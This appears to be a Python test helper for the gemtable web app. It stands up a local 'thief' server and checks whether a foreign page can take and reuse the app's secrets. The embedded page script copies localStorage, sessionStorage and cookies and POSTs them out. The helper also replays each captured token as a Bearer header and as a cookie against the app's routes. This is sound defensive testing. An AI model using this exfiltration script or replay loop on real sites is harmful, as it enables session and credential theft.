"""Somebody else who listens at a port of this machine, writes down all that comes, and tries it.

Whoever asks gets a page that takes what it can of its origin and sends it here. A socket is
opened, and is told whatever makes a page say more.
"""

import asyncio
import json
import re
from contextlib import asynccontextmanager

import httpx
from gemtable.web.app import app_of
from gemtable.web.watchers import Following
from uvicorn import Config, Server

from tests.web.addresses import addresses
from tests.web.clients import heard_until_closed, live

_WORD = re.compile(r"[\w-]{16,}")  # a secret of ours is one
TAKES = """<!doctype html><title>A page of somebody else</title>
<script>
const taken = { local: { ...localStorage }, more: { ...sessionStorage }, cookie: document.cookie };
fetch("/taken", { method: "POST", body: JSON.stringify(taken) });
</script>"""
LURES = (
    {"revision": 1, "picture": '<meta http-equiv="refresh" content="0"><p id="lured">Come!</p>'},
    {"table": "x"},
    {"table": ""},
    {"handshake": {"id": "x", "table": "x", "page": "x"}, "token": "x"},
)
FORMS = {"/host/player/1": "bot=yes", "/host/acting/1": "may=yes"}


class Thief:
    """`words` are all that could be a secret in what came, `loot` is it itself."""

    def __init__(self):
        self.loot = []

    @property
    def words(self):
        found = {word for text in self.loot for word in _WORD.findall(text)}
        return {word for word in found if not word.islower()}  # as names of headers are

    async def __call__(self, scope, receive, send):
        self.loot.append(str([scope["path"], scope["query_string"], scope["headers"]]))
        if scope["type"] == "websocket":
            await self._lure(receive, send)
        else:
            await self._take(receive, send)

    async def _take(self, receive, send):
        message = {"more_body": True}
        while message.get("more_body"):
            message = await receive()
            self.loot.append(message.get("body", b"").decode())
        html = [(b"content-type", b"text/html; charset=utf-8")]
        await send({"type": "http.response.start", "status": 200, "headers": html})
        await send({"type": "http.response.body", "body": TAKES.encode()})

    async def _lure(self, receive, send):
        await receive()
        await send({"type": "websocket.accept"})
        for lure in LURES:
            await send({"type": "websocket.send", "text": json.dumps(lure)})
        while (message := await receive())["type"] == "websocket.receive":
            self.loot.append(message.get("text") or "")
            await send({"type": "websocket.close", "code": 4403})


@asynccontextmanager
async def listening(port=0):
    """Listen at a port; yield the thief, and the port."""
    thief = Thief()
    config = Config(thief, port=port, lifespan="off", log_config=None, timeout_graceful_shutdown=1)
    server = Server(config)
    server.install_signal_handlers = lambda: None
    sock = config.bind_socket()
    serving = asyncio.ensure_future(server.serve([sock]))
    try:
        yield thief, sock.getsockname()[1]
    finally:
        server.should_exit = True
        await serving


async def gains(thief, server):
    """Return what anybody gets at a page's server by all that a thief knows: each of its words
    as whatever proves something, at each address that there is.

    Whoever learned which handshake a page has is shown the table's half of it, once, if that page
    did not come back first. It opens nothing (tests/web/test_stolen_cookie.py), and is no gain.
    """
    got = []
    here = f"http://127.0.0.1:{server.port}"
    async with httpx.AsyncClient(base_url=here, headers={"origin": here}) as client:
        for word in sorted(thief.words):
            for address in addresses(app_of(Following())):
                path = address.filled()
                if not path.startswith(("/host", "/join", "/seat")):
                    continue
                for method in address.methods:
                    got += await _asked(client, method, path, word)
                if not address.methods:
                    got += await _listened(server, path, word)
    return got


async def _asked(client, method, path, word):
    form = f"secret={word}&{FORMS.get(path, '')}"
    sent = {"content": form} if method == "POST" else {}
    name = path[1:].replace("/", "-")
    got = []
    for headers in (
        {"authorization": f"Bearer {word}"},
        {"cookie": f"{name}-{client.base_url.port}={word}; host-{client.base_url.port}={word}"},
    ):
        answer = await client.request(method, path, headers=headers, **sent)
        is_shut = answer.status_code in (303, 403) or "room.js" in answer.text
        got += [] if is_shut else [(method, path, answer.status_code)]
    return got


async def _listened(server, path, word):
    got = []
    for more in ({}, {"handshake": ""}, {"handshake": word}):
        async with live(server, path, word, more) as socket:
            told, _code = await heard_until_closed(socket)
            got += [(path, more, each) for each in told if set(json.loads(each)) != {"table"}]
    return got
